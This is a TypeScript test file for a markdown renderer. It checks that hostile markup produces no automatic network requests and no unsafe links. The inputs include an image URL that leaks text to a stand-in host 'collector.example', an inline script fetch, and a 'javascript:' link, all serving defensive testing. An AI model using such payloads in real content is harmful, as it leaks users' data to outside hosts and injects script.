import { markdownTree } from '../../src/ui/markdown/markdown-tree';
import { allCases } from './cases';

// What a text shows is worked out from the text: of all that these ask to be loaded, nothing is left that would load itself.
const dressings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `![seen](https://collector.example/p.png?d=${encodeURIComponent(text.slice(0, 80))})`,
  (text) =>
    `<img src="https://collector.example/${text.slice(0, 40)}"> <script>fetch('//x')</script>\n\n${text}`,
  (text) =>
    `[![a](http://collector.example/a.gif)](javascript:alert(1)) <${text.slice(0, 40)}> ![b][c]\n\n[c]: https://x.example/c.png`,
];
type Node = { readonly type: string; readonly href?: string; readonly attachmentId?: string };
const isNode = (value: unknown): value is Node =>
  typeof value === 'object' && value !== null && 'type' in value && typeof value.type === 'string';
const nodesIn = (value: unknown): readonly Node[] => {
  if (typeof value !== 'object' || value === null) return [];
  const below = Object.values(value).flatMap(nodesIn);
  return isNode(value) ? [value, ...below] : below;
};

test('[READING-1] [READING-2] a text that asks for a request makes none: pictures are the device’s own, and a link waits for a finger', () => {
  let links = 0;
  for (const { text } of allCases())
    for (const dress of dressings)
      for (const node of nodesIn(markdownTree(dress(text)))) {
        if (node.type === 'picture') expect(node.attachmentId).not.toMatch(/[:/]/);
        if (node.type !== 'link') continue;
        links += 1;
        expect(node.href).toMatch(/^(https?:\/\/|mailto:)/i);
      }
  expect(links).toBeGreaterThan(0);
});
